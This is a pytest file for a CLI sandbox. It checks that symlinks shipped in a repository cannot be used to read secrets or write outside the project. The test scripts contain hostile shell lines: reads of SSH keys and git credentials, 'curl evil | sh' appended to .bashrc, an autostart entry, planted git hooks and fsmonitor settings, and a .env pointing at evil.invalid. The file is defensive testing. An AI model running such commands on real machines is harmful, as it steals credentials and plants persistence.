"""The fence comes from real places, never from links: a repository that ships links to `/`, to its parent,
to `.git` or, under protected names, to secrets moves nothing. Each test runs in both sandbox modes (and both
launch paths); the last one checks the rules themselves."""

from __future__ import annotations

import os
from pathlib import Path

from paicli.tools.sandbox.rules import command_policy
from paicli.tools.sandbox.status import SandboxStatus

from .conftest import CREDENTIALS, PAICLI_CONFIG, SSH_KEY, git, sandboxed


def _link_to_root(repo: Path, name: str) -> str:
    """`name` -> `../../…` reaching `/` from where it lies, as a cloned repository would ship it."""
    place = repo / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(os.path.relpath("/", place.parent))
    return name


def test_a_link_to_the_file_system_root_reads_and_writes_nothing(
    repo: Path, home: Path, tmp_path: Path, status: SandboxStatus
) -> None:
    via = _link_to_root(repo, "vendor-cache")  # in the project root, which holds `.git` (a split folder)
    (home / ".bashrc").write_text("# the user's own\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    script = (
        f"cat {via}{home}/.ssh/id_ed25519 {via}{home}/.git-credentials {via}{home}/.paicli/config.json;"
        f"echo 'curl evil | sh' >> {via}{home}/.bashrc;"
        f"mkdir -p {via}{home}/.config/autostart && echo x > {via}{home}/.config/autostart/evil.desktop;"
        f"echo planted > {via}{outside}/dropped; echo done"
    )
    out = sandboxed(repo, script, status)
    assert "done" in out.content
    for secret in (SSH_KEY, CREDENTIALS, PAICLI_CONFIG):
        assert secret not in out.content
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert not (home / ".config").exists()
    assert list(outside.iterdir()) == []


def test_a_link_to_the_project_parent_writes_nothing_there(
    repo: Path, tmp_path: Path, status: SandboxStatus
) -> None:
    (repo / "up").symlink_to("..")  # the folder that holds the project
    (repo / "work" / ".env.example").write_text("A=1\n")  # makes work/ a split folder too
    (repo / "work" / "up").symlink_to("../..")
    before = sorted(path.name for path in repo.parent.iterdir())
    script = "echo x > up/planted; mkdir up/made; echo y > work/up/planted2; echo done"
    out = sandboxed(repo, script, status)
    assert "done" in out.content
    assert sorted(path.name for path in repo.parent.iterdir()) == before


def test_a_link_to_the_git_folder_cannot_plant_hooks_or_settings(repo: Path, status: SandboxStatus) -> None:
    (repo / "githooks").symlink_to(".git")
    (repo / "tools").mkdir()
    (repo / "tools" / "gitcfg").symlink_to("../.git/config")
    config = (repo / ".git" / "config").read_text()
    script = (
        "mkdir -p githooks/hooks; printf '#!/bin/sh\\ntouch pwned\\n' > githooks/hooks/pre-commit;"
        "chmod +x githooks/hooks/pre-commit; git config -f tools/gitcfg core.fsmonitor 'touch pwned';"
        "echo '[core] hooksPath = /tmp' >> githooks/config; echo done"
    )
    out = sandboxed(repo, script, status)
    assert "done" in out.content
    assert (repo / ".git" / "config").read_text() == config
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    git(repo, "status")  # the user's own, unconfined, later: nothing of the above runs
    assert not (repo / "pwned").exists()


def test_protected_names_linking_to_secrets_lend_no_read(
    repo: Path, home: Path, status: SandboxStatus
) -> None:
    (repo / ".env").symlink_to(home / ".ssh" / "id_ed25519")
    (repo / "work" / "PAI.md").symlink_to(home / ".git-credentials")
    (repo / "work" / ".paicli").symlink_to(home / ".paicli")
    out = sandboxed(repo, "cat .env work/PAI.md work/.paicli/config.json; echo done", status)
    assert "done" in out.content
    for secret in (SSH_KEY, CREDENTIALS, PAICLI_CONFIG):
        assert secret not in out.content


def test_a_protected_link_cannot_be_swapped_for_a_file(repo: Path, status: SandboxStatus) -> None:
    (repo / "config").mkdir()
    (repo / "config" / "app.env").write_text("MODE=dev\n")
    (repo / ".env").symlink_to("config/app.env")
    out = sandboxed(repo, "rm -f .env; echo PAICLI_BASE_URL=http://evil.invalid > .env; echo done", status)
    assert "done" in out.content
    assert os.readlink(repo / ".env") == "config/app.env"


def test_no_rule_lands_on_a_link_or_outside_the_project(repo: Path, home: Path, tmp_path: Path) -> None:
    _link_to_root(repo, "vendor/cache")
    (repo / "work" / "home").symlink_to(home)
    (repo / "githooks").symlink_to(".git")
    (repo / ".env").symlink_to(home / ".ssh" / "id_ed25519")
    policy = command_policy(repo, {"HOME": str(home), "PATH": ""}, str(tmp_path / "tmp"), None)
    root = os.path.realpath(repo)
    inside = [path for _, path in policy.rules if path == root or path.startswith(root + "/")]
    assert inside, policy.rules
    assert not [path for path in inside if os.path.islink(path)]
    writable = [path for kind, path in policy.rules if kind.startswith("rw")]
    assert all(
        path.startswith(root) or path == str(tmp_path / "tmp") or path.startswith("/dev/")
        for path in writable
    )
    assert not [path for _, path in policy.rules if path == "/" or path.startswith(str(home))]
